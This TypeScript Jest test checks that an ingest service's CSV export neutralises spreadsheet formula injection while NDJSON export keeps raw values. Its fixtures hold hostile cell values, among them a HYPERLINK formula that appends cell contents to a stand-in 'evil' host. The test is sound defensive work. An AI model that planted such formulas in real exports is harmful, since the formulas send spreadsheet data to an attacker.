import { RunningApp, StackEnv, basicAuth, dropDatabase, postJson, stackEnv, startApp, waitFor } from '../support/stack';
import { SeededPair, seedSourceAndDestination } from '../support/seed';

/** Issue 15 item 5: CSV export cells a spreadsheet would run as formulas are neutralised; JSON is unchanged. */
jest.setTimeout(60_000);

describe('CSV export formula injection', () => {
  let env: StackEnv;
  let ingest: RunningApp;
  let base: string;
  let seeded: SeededPair;
  const from = new Date(Date.now() - 60_000).toISOString();

  beforeAll(async () => {
    env = stackEnv('csv_injection');
    ingest = await startApp('ingest-api', env);
    seeded = await seedSourceAndDestination(env.DATABASE_URL, env.SECRETS_KEY);
    base = `http://127.0.0.1:${env.INGEST_PORT}`;
  });

  afterAll(async () => {
    await ingest.stop();
    await dropDatabase(env.DATABASE_URL);
  });

  const admin = (): Record<string, string> => ({ Authorization: `Bearer ${env.ADMIN_TOKEN}` });
  const exportAs = async (format: string, extra = '', status = 200) => {
    const to = new Date(Date.now() + 60_000).toISOString();
    const res = await fetch(`${base}/admin/export?from=${from}&to=${to}&format=${format}${extra}`, {
      headers: admin(),
    });
    expect(res.status).toBe(status);
    return res.text();
  };

  it('prefixes a single quote to =, +, -, @ cells and quotes commas and quotes', async () => {
    const hostile = [
      ['m1', '=HYPERLINK("http://evil/?"&A1,"x")', '+1'],
      ['m2', '@SUM(1,2)', '-1'],
    ];
    for (const [messageId, event, userId] of hostile) {
      const res = await postJson(
        `${base}/v1/track`,
        { messageId, userId, event },
        { Authorization: basicAuth(seeded.writeKey) },
      );
      expect(res.status).toBe(200);
    }
    const lines = (await exportAs('csv')).trim().split('\n');
    expect(lines).toHaveLength(3);
    const [, first, second] = lines;
    expect(first).toContain(`,m1,track,"'=HYPERLINK(""http://evil/?""&A1,""x"")",'+1,`);
    expect(second).toContain(`,m2,track,"'@SUM(1,2)",'-1,`);

    const json = (await exportAs('ndjson'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { event: string; userId: string });
    expect(json.map((e) => [e.event, e.userId])).toEqual([
      ['=HYPERLINK("http://evil/?"&A1,"x")', '+1'],
      ['@SUM(1,2)', '-1'],
    ]);
  });

  it('exports deletions as CSV with kind=deletions: one row per FullStory deletion, no user id', async () => {
    const created = await postJson(`${base}/admin/deletions`, { userId: '=evil()' }, admin());
    expect(created.status).toBe(202);
    const { id, deletionIds } = created.body as { id: string; deletionIds: string[] };
    const done = await waitFor('the local erasure done', async () => {
      const res = await fetch(`${base}/admin/deletions/${id}`, { headers: admin() });
      const body = (await res.json()) as { erasure: { status: string }; createdAt: string; finishedAt: string };
      return body.erasure.status === 'completed' && body;
    });
    const csv = await exportAs('csv', '&kind=deletions');
    expect(csv).toBe(
      'deletion_id,erasure_status,users,erased_events,erased_attempts,erased_rejected_events,created_at,finished_at,' +
        'destination_id,delivery_id,delivery_status\n' +
        `${id},completed,1,0,0,0,${done.createdAt},${done.finishedAt},${seeded.destinationId},${deletionIds[0]},pending\n`,
    );
    expect(csv).not.toContain('evil');
    // The events' CSV keeps its one row shape; deletions are not in it.
    expect((await exportAs('csv')).trim().split('\n')).toHaveLength(3);
    await exportAs('csv', `&kind=deletions&sourceId=${seeded.sourceId}`, 400);
  });
});
